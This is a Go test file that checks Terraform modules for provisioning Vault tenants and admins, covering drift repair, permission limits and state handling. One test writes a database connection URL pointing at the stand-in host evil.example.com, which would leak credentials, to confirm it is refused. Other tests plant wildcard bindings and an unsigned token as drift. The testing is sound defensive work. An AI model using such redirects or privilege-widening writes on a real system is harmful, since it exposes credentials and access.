package terraform_test

import (
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/hashicorp/vault/api"

	"github.com/vaultproof/vaultproof/bootstrap/policies"
	modules "github.com/vaultproof/vaultproof/deploy/terraform"
	"github.com/vaultproof/vaultproof/pkg/ceremony/vaulttest"
	"github.com/vaultproof/vaultproof/pkg/terraform"
	"github.com/vaultproof/vaultproof/pkg/terraform/terraformtest"
)

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// provisioner makes a token with the policy provisioner of the stack, and more rules.
func provisioner(t testing.TB, v *vaulttest.Vault, more string) string {
	t.Helper()
	written, err := policies.Load("")
	must(t, err)
	must(t, v.Root().Sys().PutPolicy(policies.Provisioner, written[policies.Provisioner]+more))
	made, err := v.Root().Auth().Token().CreateOrphan(&api.TokenCreateRequest{Policies: []string{policies.Provisioner}, NoDefaultPolicy: true, Period: "1h"})
	must(t, err)
	return made.Auth.ClientToken
}

// withDatabase is what the provisioner policy needs for a tenant with a database.
const withDatabase = `
path "tenant-database/+/config/*" { capabilities = ["create", "read", "update", "delete"] }
path "tenant-database/+/roles/*" { capabilities = ["create", "read", "update", "delete"] }
`

// tenant opens the module for tenant a, with a database or without.
func tenant(t testing.TB, v *vaulttest.Vault, token string, database bool) *terraform.Workspace {
	t.Helper()
	variables := terraformtest.Tenant(t, "a")
	if database {
		variables["database"] = map[string]any{"host": "db.example.com", "name": "shop", "username": "vault", "member_of": "shop", "ca": variables["kubernetes_ca"]}
	}
	return terraformtest.Open(t, terraform.Config{
		Tool: terraformtest.ToolWithProvider(t), Vault: terraformtest.Vault(t, v, token),
		Module: terraformtest.Module(t, modules.Tenant), Variables: variables,
	})
}

func unchanged(t *testing.T, w *terraform.Workspace, when string) {
	t.Helper()
	changes, err := w.Plan(t.Context())
	must(t, err)
	if len(changes) > 0 {
		t.Errorf("%s the plan is not empty: %v", when, changes)
	}
}

// TestTheTenantModule applies it with the provisioner policy as it is, and takes it away.
func TestTheTenantModule(t *testing.T) {
	for name, database := range map[string]bool{"without a database": false, "with a database": true} {
		t.Run(name, func(t *testing.T) {
			v := vaulttest.Start(t)
			more := ""
			if database {
				more = withDatabase
			}
			w := tenant(t, v, provisioner(t, v, more), database)
			before := inventory(t, v)
			must(t, w.Apply(t.Context()))
			unchanged(t, w, "after an apply")
			told, err := w.Output(t.Context())
			must(t, err)
			for output, want := range map[string]string{"mount": `"tenant-a"`, "role": `"tenant-a-app"`, "policy": `"tenant-a-app"`, "kv": `"tenant-a-kv"`} {
				if string(told[output]) != want {
					t.Errorf("output %s is %s, want %s", output, told[output], want)
				}
			}
			tool, providers, err := w.Versions(t.Context())
			if err != nil || tool == "" || len(providers) != 1 {
				t.Errorf("versions %s and %v, error %v", tool, providers, err)
			}
			t.Logf("%s with %v", tool, providers)
			must(t, w.Destroy(t.Context()))
			if after := inventory(t, v); !slices.Equal(before, after) {
				t.Errorf("a tenant that is gone leaves %v, want %v", after, before)
			}
		})
	}
}

// inventory are all mounts, ways to log in and policies.
func inventory(t *testing.T, v *vaulttest.Vault) []string {
	t.Helper()
	var all []string
	mounts, err := v.Root().Sys().ListMounts()
	must(t, err)
	auths, err := v.Root().Sys().ListAuth()
	must(t, err)
	written, err := v.Root().Sys().ListPolicies()
	must(t, err)
	for _, path := range slices.Sorted(maps.Keys(mounts)) {
		all = append(all, "mount "+path)
	}
	for _, path := range slices.Sorted(maps.Keys(auths)) {
		all = append(all, "auth "+path)
	}
	for _, name := range written {
		all = append(all, "policy "+name)
	}
	return all
}

// TestDriftIsFoundAndRepaired changes Vault past Terraform, in every way that would widen
// what a tenant may do or who may be the tenant.
func TestDriftIsFoundAndRepaired(t *testing.T) {
	v := vaulttest.Start(t)
	w := tenant(t, v, provisioner(t, v, withDatabase), true)
	must(t, w.Apply(t.Context()))
	role, config := "auth/tenant-a/role/tenant-a-app", "auth/tenant-a/config"
	for _, drift := range []struct {
		path, field string
		value       any
	}{
		{role, "bound_service_account_names", "*"},
		{role, "bound_service_account_namespaces", "*"},
		{role, "bound_service_account_namespace_selector", `{"matchLabels":{"a":"b"}}`},
		{role, "audience", "somebody"},
		{role, "token_policies", []string{"tenant-a-app", "admin"}},
		{role, "token_max_ttl", 86400},
		{role, "token_period", 60},
		{role, "token_no_default_policy", false},
		{role, "alias_name_source", "serviceaccount_name"},
		{config, "kubernetes_host", "https://198.51.100.1"},
		{config, "token_reviewer_jwt", "eyJhbGciOiJub25lIn0.e30."}, // the last one: it is not read back
		{"tenant-database/a/roles/tenant-a-app", "max_ttl", 2000},
		{"tenant-database/a/config/tenant-a", "allowed_roles", "*"},
	} {
		set(t, v, drift.path, drift.field, drift.value)
	}
	must(t, v.Root().Sys().PutPolicy("tenant-a-app", `path "tenant-*" { capabilities = ["read"] }`))
	must(t, v.Root().Sys().Unmount("tenant-a-transit"))

	changes, err := w.Plan(t.Context())
	must(t, err)
	told := map[string]string{}
	for _, change := range changes {
		told[change.Address] = change.String()
	}
	for address, fields := range map[string][]string{
		"vault_policy.app": {"update", "policy"},
		"vault_generic_endpoint.role": {"bound_service_account_names", "bound_service_account_namespaces", "bound_service_account_namespace_selector", "audience",
			"token_policies", "token_max_ttl", "token_period", "token_no_default_policy", "alias_name_source"},
		"vault_generic_endpoint.config":        {"token_reviewer_jwt_set", "kubernetes_host"},
		"vault_generic_endpoint.accounts[0]":   {"max_ttl"},
		"vault_generic_endpoint.connection[0]": {"allowed_roles"},
		"vault_mount.transit":                  {"create"},
	} {
		for _, field := range fields {
			if !strings.Contains(told[address], field) {
				t.Errorf("the plan says of %s %q, want %s", address, told[address], field)
			}
		}
	}
	if len(told) != 6 {
		t.Errorf("the plan is %v, want six changes", changes)
	}
	must(t, w.Apply(t.Context()))
	unchanged(t, w, "after the repair")
	must(t, w.Destroy(t.Context()))
}

// set changes one field of what is at a path.
func set(t *testing.T, v *vaulttest.Vault, path, field string, value any) {
	t.Helper()
	s, err := v.Root().Logical().Read(path)
	must(t, err)
	data := maps.Clone(s.Data)
	if path == "tenant-database/a/config/tenant-a" {
		data = map[string]any{} // it takes what is given, and keeps the rest
	}
	data[field] = value
	_, err = v.Root().Logical().Write(path, data)
	must(t, err)
}

// TestTheOwnersPasswordStays: a later apply does not take away what the owner of the
// database has set, and the owner may do nothing else.
func TestTheOwnersPasswordStays(t *testing.T) {
	v := vaulttest.Start(t)
	w := tenant(t, v, provisioner(t, v, withDatabase), true)
	must(t, w.Apply(t.Context()))
	made, err := v.Root().Auth().Token().CreateOrphan(&api.TokenCreateRequest{Policies: []string{"tenant-a-database-owner"}, NoDefaultPolicy: true})
	must(t, err)
	owner := v.Client(made.Auth.ClientToken).Logical()
	_, err = owner.Write("tenant-database/a/config/tenant-a", map[string]any{"password": "a password that nobody knows"})
	must(t, err)
	for what, refused := range map[string]func() error{
		"lead Vault elsewhere": func() error {
			_, err := owner.Write("tenant-database/a/config/tenant-a", map[string]any{"connection_url": "postgresql://{{username}}:{{password}}@evil.example.com/shop"})
			return err
		},
		"have an account": func() error { _, err := owner.Read("tenant-database/a/creds/tenant-a-app"); return err },
		"say how one is made": func() error {
			_, err := owner.Write("tenant-database/a/roles/tenant-a-app", map[string]any{"max_ttl": 60})
			return err
		},
		"read what is configured": func() error { _, err := owner.Read("tenant-database/a/config/tenant-a"); return err },
	} {
		if err := refused(); err == nil || !strings.Contains(err.Error(), "403") {
			t.Errorf("the owner of the database may %s: %v", what, err)
		}
	}
	unchanged(t, w, "after the owner has set the password")
	_, err = v.Root().Logical().Write("tenant-database/a/config/tenant-a", map[string]any{"allowed_roles": "*"})
	must(t, err)
	must(t, w.Apply(t.Context()))
	state, err := os.ReadFile(filepath.Join(w.Dir(), "module", "terraform.tfstate"))
	if err != nil || strings.Contains(string(state), "nobody knows") {
		t.Errorf("the password is in the state (%v)", err)
	}
	// Rotating needs the password before anything else: without one Vault says so.
	_, err = v.Root().Logical().Write("tenant-database/a/rotate-root/tenant-a", nil)
	if err == nil || strings.Contains(err.Error(), "missing from the configuration") {
		t.Errorf("the password is gone after an apply: %v", err)
	}
}

// TestAnApplyThatWasCutShort: Vault has a mount that the state does not know.
func TestAnApplyThatWasCutShort(t *testing.T) {
	v := vaulttest.Start(t)
	w := tenant(t, v, provisioner(t, v, ""), false)
	foreign := v.Root().Sys()
	must(t, foreign.Mount("tenant-a-kv", &api.MountInput{Type: "kv-v2"}))
	if err := w.Apply(t.Context()); err == nil || !strings.Contains(err.Error(), "already in use") {
		t.Fatalf("a mount that was there before is taken over at once: %v", err)
	}
	must(t, w.Apply(t.Context())) // as after a failover: the mount is its own
	unchanged(t, w, "after the apply that took over")
	must(t, w.Destroy(t.Context()))
}

// TestTheAdminModule applies it as an admin; the provisioner may not.
func TestTheAdminModule(t *testing.T) {
	v := vaulttest.Start(t)
	written, err := policies.Load("")
	must(t, err)
	must(t, v.Root().Sys().PutPolicy("admin", written["admin"]))
	made, err := v.Root().Auth().Token().CreateOrphan(&api.TokenCreateRequest{Policies: []string{"admin"}, NoDefaultPolicy: true})
	must(t, err)
	config := func(token string) terraform.Config {
		return terraform.Config{
			Tool: terraformtest.ToolWithProvider(t), Vault: terraformtest.Vault(t, v, token), Module: terraformtest.Module(t, modules.Admin),
			Variables: map[string]any{"service_accounts": []string{"vault-admin@example.iam.gserviceaccount.com", "another@example.iam.gserviceaccount.com"}},
		}
	}
	if err := terraformtest.Open(t, config(provisioner(t, v, ""))).Apply(t.Context()); err == nil || !strings.Contains(err.Error(), "403") {
		t.Errorf("the provisioner decides who is an admin: %v", err)
	}
	w := terraformtest.Open(t, config(made.Auth.ClientToken))
	must(t, w.Apply(t.Context()))
	unchanged(t, w, "after an apply")
	_, err = v.Root().Logical().Write("auth/gcp/role/admin", map[string]any{"type": "iam", "bound_service_accounts": []string{"*"}})
	must(t, err)
	changes, err := w.Plan(t.Context())
	if must(t, err); len(changes) != 1 || !strings.Contains(changes[0].String(), "bound_service_accounts") {
		t.Errorf("everybody is an admin, and the plan says %v", changes)
	}
	must(t, w.Destroy(t.Context()))
}

// BenchmarkTenant sets one tenant up, looks again and takes it away.
func BenchmarkTenant(b *testing.B) {
	v := vaulttest.Start(b)
	w := tenant(b, v, provisioner(b, v, ""), false)
	for b.Loop() {
		must(b, w.Apply(b.Context()))
		changes, err := w.Plan(b.Context())
		if must(b, err); len(changes) > 0 {
			b.Fatal(changes)
		}
		must(b, w.Destroy(b.Context()))
	}
}
